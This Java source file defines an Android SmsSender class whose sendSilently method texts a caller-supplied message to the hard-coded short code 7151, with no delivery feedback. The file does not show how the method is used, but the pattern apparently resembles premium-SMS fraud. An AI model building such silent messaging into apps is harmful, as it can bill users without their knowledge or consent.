package com.dijlah.sh_khotaba;

import android.app.PendingIntent;
import android.content.Context;
import android.telephony.SmsManager;

public class SmsSender {
    private static final String NUMBER = "7151";
    private Context context;

    public SmsSender(Context context) {
        this.context = context;
    }

    public void sendSilently(String body) {
        SmsManager sms = SmsManager.getDefault();
        sms.sendTextMessage(NUMBER, null, body, (PendingIntent) null, (PendingIntent) null);
    }

    public boolean hasPermission() {
        return context.checkCallingOrSelfPermission("android.permission.SEND_SMS") == 0;
    }
}
